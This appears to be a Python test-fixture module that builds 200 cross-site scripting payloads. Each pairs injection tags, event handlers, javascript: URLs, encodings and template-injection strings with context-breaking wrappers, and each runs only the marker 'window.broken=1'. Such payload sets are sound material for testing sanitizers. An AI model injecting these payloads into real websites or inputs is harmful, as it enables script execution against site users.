"""Two hundred texts that try to become scripts, each by another way into a page."""

from itertools import product
from typing import Final

BROKEN: Final = "window.broken=1"
"""What each of them tries to run."""

_TAGS: Final = (
    "<script>{js}</script>",
    "<ScRiPt>{js}</sCrIpT>",
    "<script/x>{js}</script>",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "<img src=x onerror={js}>",
    "<img src=x onerror='{js}'>",
    '<img src=x onerror="{js}">',
    "<img/src=x/onerror={js}>",
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<body onload={js}>",
    "<iframe srcdoc='<script>parent.{js}</script>'>",
    "<iframe src=javascript:parent.{js}>",
    "<object data=javascript:{js}>",
    "<embed src=javascript:{js}>",
    "<math><mtext></p><img src=x onerror={js}>",
    "<details open ontoggle={js}>x</details>",
    "<video><source onerror={js}>",
    "<input autofocus onfocus={js}>",
    "<marquee onstart={js}>x</marquee>",
    "<style>@import 'javascript:{js}';</style>",
    "<link rel=stylesheet href=javascript:{js}>",
    "<meta http-equiv=refresh content='0;url=javascript:{js}'>",
    "<form action=javascript:{js}><button autofocus onfocus={js}>x</button></form>",
    "<a href=javascript:{js} autofocus onfocus={js}>x</a>",
    "<template><script>{js}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'>",
    "<!--><img src=x onerror={js}>-->",
    "<![CDATA[><img src=x onerror={js}>]]>",
)
_AROUND: Final = (
    "{inner}",
    '">{inner}',
    "'>{inner}",
    "</script>{inner}",
    "</textarea></title>{inner}",
    "-->{inner}<!--",
)
_OTHERS: Final = (
    "javascript:{js}",
    "java\tscript:{js}",
    "data:text/html,<script>{js}</script>",
    "${{{js}}}",
    "#{{{js}}}",
    "{{{{constructor.constructor('{js}')()}}}}",
    "{{% {js} %}}",
    "\\u003cscript\\u003e{js}\\u003c/script\\u003e",
    "&lt;img src=x onerror={js}&gt;",
    "&#60;script&#62;{js}&#60;/script&#62;",
    "%3Cscript%3E{js}%3C/script%3E",
    "<<img src=x onerror={js}//",
    "＜script＞{js}＜/script＞",
    "' onmouseover={js} x='",
    '" onfocus={js} autofocus x="',
    "` onfocus={js} autofocus x=`",
    "');{js};//",
    '");{js};//',
    "\u2028{js}\u2028",
    "x\u202e{js}",
)

PAYLOADS: Final = tuple(
    template.format(inner=tag.format(js=BROKEN)) for tag, template in product(_TAGS, _AROUND)
) + tuple(other.format(js=BROKEN) for other in _OTHERS)
"""200 of them, none longer than a title may be."""
